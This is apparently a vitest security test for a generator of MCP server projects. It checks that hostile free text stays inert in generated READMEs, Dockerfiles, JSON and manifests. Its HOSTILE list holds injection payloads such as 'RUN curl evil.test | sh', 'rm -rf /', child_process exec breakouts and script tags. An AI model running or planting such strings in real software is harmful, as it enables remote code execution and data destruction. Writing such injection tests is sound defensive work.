import { Lexer, type Token, type Tokens } from 'marked';
import { describe, expect, it } from 'vitest';
import { renderProject, type ServerProject } from '#lib/server-project';
import type { CredentialScheme } from '#lib/server-runtime';
import type { ToolSet } from '#lib/tool-mapping';
import { smallToolSet } from '../support/tool-sets.js';

/** Each tries to break out of some place that text is put into. */
const HOSTILE = [
  '"; process.exit() //',
  "'; require('child_process').exec('id'); '",
  '`${process.exit()}` ${HOME} $(id) `id`',
  '*/ globalThis.PWNED = 1; /*',
  '</script><script>alert(1)</script><!-- -->',
  '[click](javascript:alert(1)) ![i](https://evil.test/i.png) <https://evil.test>',
  'https://evil.test www.evil.test a@evil.test',
  '{{constructor.constructor "return process" }} {{{this}}} {{> evil}}',
  'line\nRUN curl evil.test | sh\r\nENV A=1\u2028USER root\u0085x',
  '\n\n# Heading\n\n- item\n\n```sh\nrm -rf /\n```\n\n    code\n',
  '| a | b |\n| - | - |',
  '__proto__ constructor \u202etxt.exe\u202c \ufeff\u0000\u0007',
  '\\" \\\\ \\',
  '~~~\n&lt;b&gt; <b>bold</b> **strong** _em_',
];

const KEY = 'TIDE_TABLES_KEY';

/** The same text in every place that takes free text. */
function toolSetWith(text: string): ToolSet {
  const tools = smallToolSet();
  const credential: CredentialScheme = { type: 'apiKey', in: 'header', name: text, env: KEY };
  return {
    ...tools,
    manifest: {
      ...tools.manifest,
      title: text,
      version: text,
      description: text,
      servers: [
        { url: `https://x.test/${text}`, variables: { [text]: { default: text, enum: [text], env: 'V' } } },
      ],
      credentials: { [text]: credential },
    },
    files: tools.files.map((file) => ({
      tag: text,
      tools: file.tools.map((tool) => ({
        ...tool,
        title: text,
        description: text,
        operation: text,
        binding: { ...tool.binding, path: text, security: [[{ scheme: text, scopes: [text] }]] },
      })),
    })),
    skipped: [{ id: text, reason: text, code: 'mapping/skipped' }],
  };
}

/** Inline and block constructs of Markdown. */
const CONSTRUCTS = 'link image html strong em del heading code table list hr blockquote'.split(' ');
const countOf = (types: readonly string[], type: string) => types.filter((one) => one === type).length;
const isCode = (path: string) => /\.(ts|js|mjs|yml)$/u.test(path) || path === 'tsconfig.json';

describe.each(HOSTILE)('a description that says %j everywhere', (text) => {
  const rendered = Promise.all([renderProject(toolSetWith(text)), renderProject(smallToolSet())]);

  it('has the same files and the same code as any other', async () => {
    const [hostile, harmless] = await rendered;
    expect([...hostile.files.keys()]).toEqual([...harmless.files.keys()]);
    for (const path of [...hostile.files.keys()].filter((path) => isCode(path))) {
      expect(hostile.files.get(path)).toBe(harmless.files.get(path));
    }
  });

  it('changes values in JSON, never its shape', async () => {
    const [hostile, harmless] = await rendered;
    for (const path of ['package.json', 'package-lock.json']) {
      expect(shape(hostile, path)).toEqual(shape(harmless, path));
    }
    expect(JSON.parse(hostile.files.get('data/server.json')!)).toEqual(
      JSON.parse(JSON.stringify(toolSetWith(text).manifest)),
    );
  });

  it.each(['README.md', 'CHANGELOG.md'])(
    'stays text in %s: no link, image, HTML or heading comes of it',
    async (path) => {
      const [hostile, harmless] = await rendered;
      const [mine = [], theirs = []] = [hostile, harmless].map(({ files }) => constructs(files.get(path)!));
      for (const type of CONSTRUCTS) expect(countOf(mine, type), type).toBe(countOf(theirs, type));
    },
  );

  it('fills in no variable of the client that installs the extension', async () => {
    const [hostile] = await rendered;
    const manifest = JSON.parse(hostile.files.get('mcpb/manifest.json')!) as {
      server: object;
      user_config: Record<string, { default?: string }>;
    };
    const defaults = Object.values(manifest.user_config).map((setting) => setting.default ?? '');
    expect(defaults.join(' ')).not.toContain('${');
    expect(
      JSON.stringify(manifest.server)
        .match(/\$\{[^}]*\}/gu)
        ?.toSorted(),
    ).toEqual([
      '${__dirname}',
      '${user_config.tide_tables_key}',
      '${user_config.upstream_base_url}',
      '${user_config.v}',
    ]);
  });

  it('stays in its label in the Dockerfile', async () => {
    const [hostile, harmless] = await rendered;
    const instructions = ({ files }: ServerProject) =>
      files
        .get('Dockerfile')!
        .split('\n')
        .map((line) => line.replace(/title=.*|description=.*|version=.*/u, ''));
    expect(instructions(hostile)).toEqual(instructions(harmless));
    for (const [, value] of hostile.files
      .get('Dockerfile')!
      .matchAll(/(?:title|description)=(.*?)(?: \\)?$/gmu)) {
      expect(value).toMatch(/^"(?:[^"\\$`]|\\["\\$`])*"$/u);
    }
  });

  it('sets nothing in the env file', async () => {
    const [hostile] = await rendered;
    const set = hostile.files
      .get('.env.example')!
      .split('\n')
      .filter((line) => line !== '' && !line.startsWith('#'));
    expect(set).toEqual([`${KEY}=`]);
  });
});

/** The names of all members, without the values, below the project's own name. */
function shape(project: ServerProject, path: string): unknown {
  const text = project.files.get(path)!;
  return JSON.parse(text, (_key, value: unknown) => (typeof value === 'string' ? '' : value)) as unknown;
}

/** The types of all block and inline constructs that GitHub's Markdown dialect sees. */
function constructs(text: string): string[] {
  const types: string[] = [];
  const visit = (tokens: readonly Token[]): void => {
    for (const token of tokens) {
      types.push(token.type);
      if (token.type === 'table') {
        const table = token as Tokens.Table;
        for (const cell of [table.header, ...table.rows].flat()) visit(cell.tokens);
      }
      if (token.type === 'list') visit((token as Tokens.List).items);
      if ('tokens' in token) visit(token.tokens ?? []);
    }
  };
  visit(new Lexer({ gfm: true }).lex(text));
  return types;
}
